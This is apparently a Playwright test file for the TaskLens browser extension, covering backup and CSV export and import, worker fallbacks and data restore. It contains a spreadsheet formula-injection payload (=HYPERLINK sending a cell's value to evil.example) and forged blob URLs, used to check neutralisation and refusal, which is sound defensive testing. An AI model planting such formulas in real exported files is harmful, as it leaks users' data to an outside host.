import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { ConsoleMessage, Page } from '@playwright/test';
import { SCHEMA_VERSION } from '../../lib/model/records';
import { APPLICATION_COLUMNS, EVENT_COLUMNS } from '../../lib/transfer/csv-columns';
import { expect, openExtensionPage, panelFrame, test, type Harness } from './harness';
import { PAGES, servedPages } from './pages';
import { makeListing } from '../db/fixtures';
import { sampleApplication, sampleEvent, samplePlatform } from '../transfer/sample';
import { buildJsonExport } from '../transfer/export-files';

const FORMULA_NOTE = '=1+1';
const LINK_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")';

/** The extension pages' own messaging, as a page script sees it. */
type RuntimeGlobal = { chrome: { runtime: { sendMessage(message: unknown): Promise<unknown> } } };

/** Every record in the extension's database, read with plain IndexedDB from an extension page. */
function readDatabase(page: Page) {
  return page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const open = indexedDB.open('tasklens');
      open.onsuccess = () => resolve(open.result);
      open.onerror = () => reject(open.error);
    });
    const all = (store: string) =>
      new Promise<unknown[]>((resolve, reject) => {
        const request = db.transaction(store).objectStore(store).getAll();
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const byId = (list: unknown[]) =>
      [...list].sort((a, b) => String((a as { id: string }).id).localeCompare((b as { id: string }).id));
    const result = {
      platforms: byId(await all('platforms')),
      // Stored in application buckets; compared here as the applications they hold.
      applications: byId(
        (await all('applicationBuckets')).flatMap((b) => (b as { applications: unknown[] }).applications),
      ),
      // Stored in history buckets; compared here as the events they hold.
      events: byId(
        (await all('historyBuckets')).flatMap((b) =>
          (b as { histories: { events: unknown[] }[] }).histories.flatMap((h) => h.events),
        ),
      ),
    };
    db.close();
    return JSON.parse(JSON.stringify(result)) as Record<
      'platforms' | 'applications' | 'events',
      { id: string }[]
    >;
  });
}

type StoredRecords = Awaited<ReturnType<typeof readDatabase>>;

/** The records of an exported backup, ordered as readDatabase orders them. */
function recordsOfBackup(path: string): StoredRecords {
  const file = JSON.parse(readFileSync(path, 'utf8')) as StoredRecords;
  const byId = (list: { id: string }[]) => [...list].sort((a, b) => a.id.localeCompare(b.id));
  return {
    platforms: byId(file.platforms),
    applications: byId(file.applications),
    events: byId(file.events),
  };
}

/** The rows of an exported CSV file, by column header. */
function rowsOfCsv(path: string) {
  return Papa.parse<Record<string, string>>(readFileSync(path, 'utf8').replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  }).data;
}

async function saveFromPanel(page: Page, extensionId: string, url: string, stage: string, notes: string) {
  await page.goto(url);
  const panel = await panelFrame(page, extensionId);
  const collapsed = panel.getByTestId('collapsed-tab');
  await panel.locator('main[aria-label="TaskLens"], [data-testid="collapsed-tab"]').first().waitFor();
  if (await collapsed.isVisible()) await collapsed.click();
  await panel.getByLabel('Stage').selectOption(stage);
  await panel.getByLabel('Notes').fill(notes);
  await panel.getByRole('button', { name: 'Save to my log' }).click();
  await expect(panel.getByTestId('saved-status')).toBeVisible();
}

function menu(dashboard: Page) {
  return dashboard.getByTestId('transfer-controls');
}

/** Exports a file from the menu; the file is made in the export worker unless the page has none. */
async function exportFile(dashboard: Page, label: string, dir: string, { inWorker = true } = {}) {
  const workers: string[] = [];
  const warnings: string[] = [];
  const seen = (worker: { url(): string }) => workers.push(worker.url());
  const warned = (message: ConsoleMessage) => warnings.push(message.text());
  dashboard.on('worker', seen);
  dashboard.on('console', warned);
  // Opening the menu starts the worker, so it is ready by the time a file is chosen.
  await menu(dashboard)
    .getByRole('button', { name: /Your data/ })
    .click();
  const [download] = await Promise.all([
    dashboard.waitForEvent('download'),
    menu(dashboard).getByRole('button', { name: label }).click(),
  ]);
  dashboard.off('worker', seen);
  dashboard.off('console', warned);
  expect(workers).toEqual(inWorker ? [expect.stringContaining('/assets/export.worker-')] : []);
  const fallback = warnings.filter((w) => w.includes('the page makes it'));
  expect(fallback).toHaveLength(inWorker ? 0 : 1);
  // The worker is ended once the file is made (Playwright hears of it a moment later).
  await expect.poll(() => dashboard.workers().length).toBe(0);
  const path = join(dir, download.suggestedFilename());
  await download.saveAs(path);
  return { path, name: download.suggestedFilename() };
}

async function importFiles(dashboard: Page, paths: string[]) {
  await menu(dashboard)
    .getByRole('button', { name: /Your data/ })
    .click();
  await menu(dashboard)
    .getByRole('button', { name: /Import/ })
    .click();
  const dialog = dashboard.getByTestId('import-dialog');
  await dialog.getByLabel('Files to import').setInputFiles(paths);
  return dialog;
}

/** One listing saved from its panel, and the dashboard open with `prepare` run before its own code. */
async function dashboardWithOneListing(
  { context, serve, extensionId }: Pick<Harness, 'context' | 'serve' | 'extensionId'>,
  prepare: () => void,
) {
  await serve(servedPages('outlier'));
  const page = await context.newPage();
  await saveFromPanel(page, extensionId, PAGES.outlier.url, 'screening', FORMULA_NOTE);
  const dashboard = await openExtensionPage(context, extensionId, 'dashboard.html');
  await dashboard.addInitScript(prepare);
  return { dashboard, dir: mkdtempSync(join(tmpdir(), 'tasklens-transfer-')) };
}

test('without workers, the page makes the export files itself, and they hold the whole log', async ({
  context,
  serve,
  extensionId,
}) => {
  const { dashboard, dir } = await dashboardWithOneListing({ context, serve, extensionId }, () => {
    // As in a browser whose extension pages cannot start module workers.
    Object.defineProperty(window, 'Worker', { value: undefined });
  });
  await dashboard.clock.install();
  await dashboard.reload();
  await expect(menu(dashboard)).toBeVisible();
  const log = await readDatabase(dashboard);
  const backup = await exportFile(dashboard, 'Full backup (JSON)', dir, { inWorker: false });
  // The notice that it went well shows in the dashboard's notices, then leaves by itself.
  const status = dashboard.locator('.notices [role="status"]');
  await expect(status).toContainText(`Saved ${backup.name}`);
  await dashboard.clock.fastForward('00:11');
  await expect(status).toBeEmpty();
  expect(recordsOfBackup(backup.path)).toEqual(log);
  const csv = await exportFile(dashboard, 'Applications (CSV)', dir, { inWorker: false });
  await expect(status).toContainText(`Saved ${csv.name}`);
  await status.getByRole('button', { name: 'Dismiss' }).click();
  await expect(status).toBeEmpty();
  const rows = rowsOfCsv(csv.path);
  expect(rows.map((r) => r['Listing key'])).toEqual(
    log.applications.map((a) => (a as { id: string; listingKey?: string }).listingKey),
  );
});

test('an export worker that fails before it is asked is let go, and the page makes the file', async ({
  context,
  serve,
  extensionId,
}) => {
  const { dashboard, dir } = await dashboardWithOneListing({ context, serve, extensionId }, () => {
    // Workers whose code fails to load: the error comes at once, before any file is asked for.
    class FailingWorker {
      onerror: ((event: { message: string }) => void) | null = null;
      onmessage: unknown = null;
      onmessageerror: unknown = null;
      constructor() {
        setTimeout(() => this.onerror?.({ message: 'its code could not be loaded' }), 0);
      }
      postMessage() {}
      terminate() {}
    }
    Object.defineProperty(window, 'Worker', { value: FailingWorker });
  });
  await dashboard.reload();
  await expect(menu(dashboard)).toBeVisible();
  const log = await readDatabase(dashboard);
  const backup = await exportFile(dashboard, 'Full backup (JSON)', dir, { inWorker: false });
  expect(recordsOfBackup(backup.path).applications).toEqual(log.applications);
});

test('a worker that cannot open the database leaves the file to the page; a failure in making it is reported, not repeated', async ({
  context,
  serve,
  extensionId,
}) => {
  const { dashboard, dir } = await dashboardWithOneListing({ context, serve, extensionId }, () => {
    // Workers that answer a request for a file as the page's test says, and nothing else.
    const scope = window as unknown as { exportReply: string };
    class AnsweringWorker {
      onerror: unknown = null;
      onmessage: ((event: { data: unknown }) => void) | null = null;
      onmessageerror: unknown = null;
      postMessage(request: unknown) {
        if (typeof request === 'string') return;
        const data = { type: scope.exportReply, message: 'the disk is full' };
        setTimeout(() => this.onmessage?.({ data }), 0);
      }
      terminate() {}
    }
    Object.defineProperty(window, 'Worker', { value: AnsweringWorker });
  });
  await dashboard.reload();
  await expect(menu(dashboard)).toBeVisible();
  const log = await readDatabase(dashboard);

  await dashboard.evaluate(
    () => ((window as unknown as { exportReply: string }).exportReply = 'unavailable'),
  );
  const backup = await exportFile(dashboard, 'Full backup (JSON)', dir, { inWorker: false });
  expect(recordsOfBackup(backup.path).applications).toEqual(log.applications);

  await dashboard.evaluate(() => ((window as unknown as { exportReply: string }).exportReply = 'failed'));
  const warnings: string[] = [];
  const downloads: string[] = [];
  dashboard.on('console', (message) => warnings.push(message.text()));
  dashboard.on('download', (download) => downloads.push(download.suggestedFilename()));
  await menu(dashboard)
    .getByRole('button', { name: /Your data/ })
    .click();
  await menu(dashboard).getByRole('button', { name: 'Full backup (JSON)' }).click();
  await expect(dashboard.getByRole('alert')).toContainText('Export failed: the disk is full');
  expect(downloads).toEqual([]);
  expect(warnings.filter((w) => w.includes('the page makes it'))).toEqual([]);
});

test('the background fetches only blob: URLs of the extension’s own pages, and nothing leaves the machine', async ({
  context,
  extensionId,
  extensionRequests,
}) => {
  const dashboard = await openExtensionPage(context, extensionId, 'dashboard.html');
  await expect(menu(dashboard)).toBeVisible();
  const replies = await dashboard.evaluate(async (id) => {
    const { runtime } = (globalThis as unknown as RuntimeGlobal).chrome;
    const ask = (url: string) =>
      runtime.sendMessage({
        type: 'import:files',
        importId: crypto.randomUUID(),
        files: [{ name: 'backup.json', url }],
        mode: 'merge',
        apply: false,
      });
    // Another site's blob, another extension's, and a name made to look like this one's.
    return [
      await ask('blob:https://evil.example/0b6c2f3e-1111-4a4a-9c9c-000000000001'),
      await ask('blob:chrome-extension://abcdefghijklmnopabcdefghijklmnop/0b6c2f3e'),
      await ask(`blob:chrome-extension://${id}.evil.example/0b6c2f3e`),
    ];
  }, extensionId);
  for (const reply of replies) expect(reply).toEqual({ ok: true, data: { status: 'unreachable' } });
  // A URL that is not a blob: URL is refused before it reaches the background's import.
  const refused = await dashboard.evaluate(() =>
    (globalThis as unknown as RuntimeGlobal).chrome.runtime.sendMessage({
      type: 'import:files',
      importId: crypto.randomUUID(),
      files: [{ name: 'backup.json', url: 'https://evil.example/backup.json' }],
      mode: 'merge',
      apply: false,
    }),
  );
  expect(refused).toMatchObject({ ok: false });
  expect(extensionRequests).toEqual([]);
});

/** A log of `count` applications with two events each, created in an order unlike their ids'. */
function largeLog(count: number) {
  const at = (i: number) => new Date(Date.UTC(2026, 0, 1) + ((i * 7919) % count) * 60_000).toISOString();
  const applications = Array.from({ length: count }, (_, i) =>
    sampleApplication(String(i), {
      listing: makeListing(String(i), {
        title: `Listing ${i} – “quoted”, with a comma`,
        description: `Rate model answers.\nLine two of listing ${i}.`,
      }),
      notes: i % 5 ? '' : '=SUM(A1:A9)',
      stageSince: at(i),
      stageDates: { found: at(i), applied: at(i) },
      createdAt: at(i),
      updatedAt: at(i),
    }),
  );
  const events = applications.flatMap((a, i) => [
    sampleEvent(`e-${i}-1`, a.id, at(i), { kind: 'created', from: undefined, to: undefined }),
    sampleEvent(`e-${i}-2`, a.id, at(i)),
  ]);
  return { platforms: [samplePlatform()], applications, events };
}

test('a log in every bucket exports whole from the worker, and the CSV rows run oldest first', async ({
  context,
  extensionId,
}) => {
  const dir = mkdtempSync(join(tmpdir(), 'tasklens-transfer-'));
  // Enough applications to fill every bucket of the store the export reads.
  const log = largeLog(600);
  writeFileSync(join(dir, 'large.json'), buildJsonExport(log, new Date()));
  const dashboard = await openExtensionPage(context, extensionId, 'dashboard.html');
  const dialog = await importFiles(dashboard, [join(dir, 'large.json')]);
  await expect(dialog.getByTestId('preview-applications').locator('[data-column="added"]')).toHaveText('600');
  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(dialog).toBeHidden();
  const stored = await readDatabase(dashboard);
  expect(stored.applications).toHaveLength(600);

  const backup = await exportFile(dashboard, 'Full backup (JSON)', dir);
  expect(recordsOfBackup(backup.path)).toEqual(stored);

  const oldestFirst = (rows: Record<string, string>[], time: string, id: string) =>
    rows
      .map((r) => [r[time], r[id]])
      .sort(([t1, i1], [t2, i2]) => t1.localeCompare(t2) || i1.localeCompare(i2));
  const applications = rowsOfCsv((await exportFile(dashboard, 'Applications (CSV)', dir)).path);
  expect(applications).toHaveLength(600);
  const applicationOrder = applications.map((r) => [
    r[APPLICATION_COLUMNS.createdAt],
    r[APPLICATION_COLUMNS.id],
  ]);
  expect(applicationOrder).toEqual(
    oldestFirst(applications, APPLICATION_COLUMNS.createdAt, APPLICATION_COLUMNS.id),
  );
  expect(new Set(applications.map((r) => r[APPLICATION_COLUMNS.id]))).toEqual(
    new Set(log.applications.map((a) => a.id)),
  );
  expect(applications.find((r) => r[APPLICATION_COLUMNS.id] === 'app-0')?.[APPLICATION_COLUMNS.notes]).toBe(
    "'=SUM(A1:A9)",
  );

  const events = rowsOfCsv((await exportFile(dashboard, 'History of changes (CSV)', dir)).path);
  expect(events).toHaveLength(1200);
  expect(events.map((r) => [r[EVENT_COLUMNS.at], r[EVENT_COLUMNS.id]])).toEqual(
    oldestFirst(events, EVENT_COLUMNS.at, EVENT_COLUMNS.id),
  );
  expect(events.find((r) => r[EVENT_COLUMNS.id] === 'e-7-1')?.[EVENT_COLUMNS.about]).toBe(
    log.applications[7].listing.title,
  );
});

test('export, delete everything, import: the log comes back exactly; broken files change nothing', async ({
  context,
  serve,
  extensionId,
  extensionRequests,
}) => {
  const dir = mkdtempSync(join(tmpdir(), 'tasklens-transfer-'));
  await serve(servedPages('outlier', 'linkedinJob'));
  const page = await context.newPage();
  await saveFromPanel(page, extensionId, PAGES.outlier.url, 'screening', FORMULA_NOTE);
  await saveFromPanel(page, extensionId, PAGES.linkedinJob.url, 'applied', LINK_NOTE);

  const dashboard = await openExtensionPage(context, extensionId, 'dashboard.html');
  await expect(menu(dashboard)).toBeVisible();
  const before = await readDatabase(dashboard);
  expect(before.applications).toHaveLength(2);

  const today = new Date();
  const stamp = `${today.getFullYear()}-${String(today.getMonth() + 1).padStart(2, '0')}-${String(today.getDate()).padStart(2, '0')}`;
  const backup = await exportFile(dashboard, 'Full backup (JSON)', dir);
  expect(backup.name).toBe(`tasklens-backup-${stamp}.json`);
  const applicationsCsv = await exportFile(dashboard, 'Applications (CSV)', dir);
  expect(applicationsCsv.name).toBe(`tasklens-applications-${stamp}.csv`);
  const eventsCsv = await exportFile(dashboard, 'History of changes (CSV)', dir);
  expect(eventsCsv.name).toBe(`tasklens-events-${stamp}.csv`);
  expect(readFileSync(applicationsCsv.path).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(JSON.parse(readFileSync(backup.path, 'utf8'))).toMatchObject({
    format: 'tasklens-export',
    schemaVersion: SCHEMA_VERSION,
  });

  // The keyboard shortcut exports the backup too; pressed twice at once, it saves one file.
  await dashboard.locator('body').click();
  const downloads: string[] = [];
  const counted = (download: { suggestedFilename(): string }) => downloads.push(download.suggestedFilename());
  dashboard.on('download', counted);
  await dashboard.keyboard.press('Alt+Shift+E');
  await dashboard.keyboard.press('Alt+Shift+E');
  await expect.poll(() => downloads).toEqual([backup.name]);
  await dashboard.waitForTimeout(1500);
  dashboard.off('download', counted);
  expect(downloads).toEqual([backup.name]);

  // Delete everything, after confirming.
  await menu(dashboard)
    .getByRole('button', { name: /Your data/ })
    .click();
  await menu(dashboard).getByRole('button', { name: 'Delete everything…' }).click();
  const wipe = dashboard.getByTestId('wipe-dialog');
  await expect(wipe).toContainText('all 2 applications');
  await wipe.getByRole('button', { name: 'Delete everything' }).click();
  await expect(dashboard.getByTestId('empty-log')).toBeVisible();
  expect((await readDatabase(dashboard)).applications).toHaveLength(0);

  // A broken CSV (one bad stage) names the row and column and writes nothing.
  const broken = readFileSync(applicationsCsv.path, 'utf8').replace(',"Screening",', ',"Hired",');
  writeFileSync(join(dir, 'broken.csv'), broken);
  let dialog = await importFiles(dashboard, [join(dir, 'broken.csv')]);
  await expect(dialog.getByTestId('import-error')).toContainText('column "Stage": "Hired" is not a stage');
  await expect(dialog.getByRole('button', { name: 'Import', exact: true })).toBeDisabled();
  // Binary junk is refused too.
  writeFileSync(join(dir, 'junk.json'), Buffer.from([0x50, 0x4b, 3, 4, 0xff, 0xfe, 0, 0, 0x80]));
  await dialog.getByLabel('Files to import').setInputFiles(join(dir, 'junk.json'));
  await expect(dialog.getByTestId('import-error')).toContainText('not UTF-8 text');
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  expect((await readDatabase(dashboard)).applications).toHaveLength(0);

  // Import the backup: preview first, then everything is back, record for record.
  dialog = await importFiles(dashboard, [backup.path]);
  await expect(dialog.getByTestId('preview-applications').locator('[data-column="added"]')).toHaveText('2');
  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
  // The dialog closes once the log is written; an earlier import's notice may still be showing.
  await expect(dialog).toBeHidden();
  await expect(dashboard.getByTestId('notice').filter({ hasText: 'Imported' }).last()).toBeVisible();
  await expect(dashboard.getByTestId('applications')).toContainText('Biology Expert – AI Training');
  await expect(dashboard.getByTestId('applications')).toContainText('AI Trainer – Spanish Writer');
  expect(await readDatabase(dashboard)).toEqual(before);

  // A broken file on a full log leaves it as it was; the same backup again changes nothing.
  dialog = await importFiles(dashboard, [join(dir, 'broken.csv')]);
  await expect(dialog.getByTestId('import-error')).toBeVisible();
  await dialog.getByLabel('Files to import').setInputFiles(backup.path);
  await expect(dialog.getByRole('button', { name: 'Nothing to import' })).toBeDisabled();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  expect(await readDatabase(dashboard)).toEqual(before);

  // The two CSV files together restore the applications and their history.
  await menu(dashboard)
    .getByRole('button', { name: /Your data/ })
    .click();
  await menu(dashboard).getByRole('button', { name: 'Delete everything…' }).click();
  await dashboard.getByTestId('wipe-dialog').getByRole('button', { name: 'Delete everything' }).click();
  await expect(dashboard.getByTestId('empty-log')).toBeVisible();
  dialog = await importFiles(dashboard, [applicationsCsv.path, eventsCsv.path]);
  await expect(dialog.getByTestId('preview-events').locator('[data-column="added"]')).toHaveText(
    String(before.events.length),
  );
  // The browser stops the background while the preview is read; the page hands the files over again.
  const cdp = await context.newCDPSession(dashboard);
  await cdp.send('ServiceWorker.enable');
  await cdp.send('ServiceWorker.stopAllWorkers');
  await cdp.detach();
  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
  // The dialog closes once the log is written; an earlier import's notice may still be showing.
  await expect(dialog).toBeHidden();
  await expect(dashboard.getByTestId('notice').filter({ hasText: 'Imported' }).last()).toBeVisible();
  const fromCsv = await readDatabase(dashboard);
  expect(fromCsv.applications).toEqual(before.applications);
  expect(fromCsv.events).toEqual(before.events);
  // Exporting and importing (the background fetching the chosen files' blob: URLs) sent nothing out.
  expect(extensionRequests).toEqual([]);

  // LibreOffice opens the CSV with the right columns and evaluates no formula.
  const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
  if (soffice.error) {
    test.info().annotations.push({
      type: 'skipped',
      description: 'LibreOffice (soffice) is not installed; the spreadsheet check was skipped.',
    });
    console.warn('LibreOffice (soffice) is not installed: skipping the spreadsheet check.');
    return;
  }
  const out = join(dir, 'calc');
  const profile = `file://${join(dir, 'lo-profile')}`;
  // CSV → spreadsheet → CSV, as a person opening and re-saving it would; the filter reads UTF-8 with commas.
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=${profile}`,
      '--headless',
      '--infilter=CSV:44,34,76,1',
      '--convert-to',
      'xlsx',
      '--outdir',
      out,
      applicationsCsv.path,
    ],
    { stdio: 'pipe', timeout: 60_000 },
  );
  const xlsx = join(out, applicationsCsv.name.replace(/\.csv$/, '.xlsx'));
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=${profile}`,
      '--headless',
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1',
      '--outdir',
      join(out, 'back'),
      xlsx,
    ],
    { stdio: 'pipe', timeout: 60_000 },
  );
  // Control: the same round trip evaluates formulas that were not neutralised, so the check means something.
  const control = join(dir, 'control.csv');
  writeFileSync(control, `\uFEFFNotes\r\n"${FORMULA_NOTE}"\r\n`);
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=${profile}`,
      '--headless',
      '--infilter=CSV:44,34,76,1',
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1',
      '--outdir',
      join(out, 'control'),
      control,
    ],
    { stdio: 'pipe', timeout: 60_000 },
  );
  expect(readFileSync(join(out, 'control', 'control.csv'), 'utf8')).toContain('\n2');

  const resaved = readFileSync(join(out, 'back', applicationsCsv.name), 'utf8').replace(/^\uFEFF/, '');
  const rows = Papa.parse<string[]>(resaved, { skipEmptyLines: true }).data;
  expect(rows[0].slice(0, 5)).toEqual(['Platform', 'Title', 'Company', 'URL', 'Stage']);
  expect(rows[0]).toEqual(expect.arrayContaining(['Notes', 'Listing key', 'Listing snapshot (JSON)']));
  const notes = rows.slice(1).map((r) => r[rows[0].indexOf('Notes')]);
  // Shown as the literal text (with or without the neutralising quote), never as 2 or a link.
  expect(notes.map((n) => n.replace(/^'/, '')).sort()).toEqual([FORMULA_NOTE, LINK_NOTE].sort());
  expect(notes).not.toContain('2');
  const titles = rows
    .slice(1)
    .map((r) => r[1])
    .sort();
  expect(titles).toEqual(['AI Trainer – Spanish Writer', 'Biology Expert – AI Training']);
});
